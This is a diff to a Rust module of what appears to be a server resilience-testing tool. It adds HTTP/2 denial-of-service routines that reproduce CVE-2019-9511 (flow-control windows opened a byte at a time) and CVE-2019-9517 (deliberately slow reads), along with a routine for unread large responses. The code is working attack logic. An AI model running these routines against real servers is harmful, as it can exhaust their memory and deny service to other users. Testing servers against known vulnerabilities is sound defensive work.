@@ -4,22 +4,29 @@
 //! others are served meanwhile is what counts here.
 
 use core::time::Duration;
+use std::io;
 
 use futures_util::future::join_all;
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
-use tokio::task::JoinSet;
+use tokio::task::{JoinSet, yield_now};
 use tokio::time::{self, Instant};
 
-use super::attack::{FLOODERS, Statuses, Target, in_a_row, open, send};
+use super::attack::{
+    FLOODERS, LARGE_RESPONSE, Statuses, Target, in_a_row, open, open_in_step, send,
+};
 use super::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
-    RST_STREAM, frame, head, header, setting, start,
+    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
+    RST_STREAM, frame, head, header, setting, start, window_update,
 };
 use super::http1::{batch, wait};
 
 /// Streams of a connection: those that the server allows
 const STREAMS: u32 = 256;
+/// Large requests on a connection: the server allows less than 1 MiB of bodies at a time
+const REQUESTS: u32 = 64;
+/// Large requests on each of many connections
+const FEW_REQUESTS: u32 = 2;
 /// The window of a client that reads all
 const WINDOW: u32 = 1 << 20;
 
@@ -191,31 +198,131 @@ async fn frames_of(stream: &mut TcpStream) -> Vec<Received> {
     let mut bytes = Vec::new();
     let _ = time::timeout(Duration::from_millis(300), stream.read_to_end(&mut bytes)).await;
     let mut frames = Vec::new();
-    let mut rest = &bytes[..];
-    while let [a, b, c, kind, flags, _, _, _, _, payload @ ..] = rest {
-        frames.push(Received { kind: *kind, flags: *flags });
-        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
-        rest = payload.get(length..).unwrap_or_default();
-    }
+    for_each_frame(&bytes, |frame, _| frames.push(frame));
     frames
+}
+
+/// Calls this with each whole frame and its payload; the length of these frames
+fn for_each_frame(bytes: &[u8], mut handle: impl FnMut(Received, &[u8])) -> usize {
+    let mut rest = bytes;
+    while let [a, b, c, kind, flags, _, _, _, _, more @ ..] = rest
+        && let length = u32::from_be_bytes([0, *a, *b, *c]) as usize
+        && let Some((payload, more)) = more.split_at_checked(length)
+    {
+        handle(Received { kind: *kind, flags: *flags }, payload);
+        rest = more;
+    }
+    bytes.len() - rest.len()
 }
 
 /// Requests for large responses with a window of nothing, as many streams as the server allows
 pub(crate) async fn unread_responses(target: Target) -> String {
-    let mut bytes = start(0);
+    let connections = (target.connections / STREAMS as usize).max(2);
+    let bytes = [start(0), large_requests(STREAMS)].concat();
+    let held = open(Target { connections, ..target }, &bytes).await;
+    time::sleep(target.duration).await;
+    format!("{STREAMS} requests on each of {} connections", held.len())
+}
+
+/// Requests for large responses
+fn large_requests(count: u32) -> Vec<u8> {
+    let mut bytes = Vec::new();
     let body = batch();
     let mut post = head("POST", "/");
     post.extend(header("content-type", "application/json"));
     post.extend(header("content-length", &body.len().to_string()));
-    for index in 0..STREAMS {
+    for index in 0..count {
         let stream = 2 * index + 1;
         bytes.extend(frame(HEADERS, END_HEADERS, stream, &post));
         bytes.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
     }
-    let connections = (target.connections / STREAMS as usize).max(2);
-    let held = open(Target { connections, ..target }, &bytes).await;
-    time::sleep(target.duration).await;
-    format!("{STREAMS} requests on each of {} connections", held.len())
+    bytes
+}
+
+/// A client that reads a part of what it could, and answers the pings that it finds there
+struct SlowReader {
+    stream: TcpStream,
+    /// The start of a frame that is not whole
+    rest: Vec<u8>,
+    read: usize,
+    is_open: bool,
+}
+
+impl SlowReader {
+    fn new(stream: TcpStream) -> Self {
+        Self { stream, rest: Vec::new(), read: 0, is_open: true }
+    }
+
+    /// Reads at most so many bytes of those that are there, and sends `more` beside its pongs
+    async fn step(&mut self, limit: usize, more: &[u8]) {
+        let start = self.rest.len();
+        self.rest.resize(start + limit, 0);
+        let read = self.stream.try_read(&mut self.rest[start..]);
+        let is_pending =
+            read.as_ref().is_err_and(|error| error.kind() == io::ErrorKind::WouldBlock);
+        let length = read.unwrap_or(0);
+        self.is_open &= length > 0 || is_pending;
+        self.read += length;
+        self.rest.truncate(start + length);
+        let mut sent = more.to_vec();
+        let whole = for_each_frame(&self.rest, |received, payload| {
+            if received.kind == PING && received.flags & ACK == 0 {
+                sent.extend(frame(PING, ACK, 0, payload));
+            }
+        });
+        self.rest.drain(..whole);
+        self.is_open &= self.stream.write_all(&sent).await.is_ok();
+    }
+}
+
+/// Reads a part of what connections get at each interval, and sends `more` on each then
+async fn read_slowly(
+    target: Target,
+    streams: Vec<TcpStream>,
+    (interval, limit, more): (Duration, usize, &[u8]),
+) -> String {
+    let mut readers: Vec<_> = streams.into_iter().map(SlowReader::new).collect();
+    let (end, mut steps) = (Instant::now() + target.duration, 0);
+    let mut interval = time::interval(interval);
+    while Instant::now() < end {
+        interval.tick().await;
+        for reader in &mut readers {
+            reader.step(limit, more).await;
+            yield_now().await;
+        }
+        steps += 1;
+    }
+    let bytes: usize = readers.iter().map(|reader| reader.read).sum();
+    let open = readers.iter().filter(|reader| reader.is_open).count();
+    assert!(bytes > 0, "nothing was received");
+    assert_eq!(open, readers.len(), "connections were ended");
+    format!("{open} connections, {steps} steps, {bytes} bytes received")
+}
+
+/// CVE-2019-9511
+///
+/// The client reads all, but opens the window of each stream by a byte at a time.
+pub(crate) async fn slow_windows(target: Target) -> String {
+    let connections = (target.connections / REQUESTS as usize).max(2);
+    let unlimited = window_update(0, i32::MAX as u32 - u32::from(u16::MAX));
+    let first = [start(0), unlimited].concat();
+    let mut streams = open(Target { connections, ..target }, &first).await;
+    let requests = large_requests(REQUESTS);
+    for stream in &mut streams {
+        let _ = stream.write_all(&requests).await;
+        time::sleep(LARGE_RESPONSE * REQUESTS).await;
+    }
+    let more: Vec<u8> = (0..REQUESTS).flat_map(|index| window_update(2 * index + 1, 1)).collect();
+    read_slowly(target, streams, (Duration::from_millis(100), 64 << 10, &more)).await
+}
+
+/// CVE-2019-9517
+///
+/// The windows are open, but the client reads a few bytes a second of its socket.
+pub(crate) async fn slow_reads(target: Target) -> String {
+    let bytes = [start(WINDOW), window_update(0, WINDOW), large_requests(FEW_REQUESTS)].concat();
+    let streams = open_in_step(target, &bytes, FEW_REQUESTS, Some(4 << 10)).await;
+    read_slowly(target, streams, (Duration::from_secs(1), 1 << 10, &[])).await
 }
 
 /// Requests that wait, each with a head of 15 KiB that has an id for the response
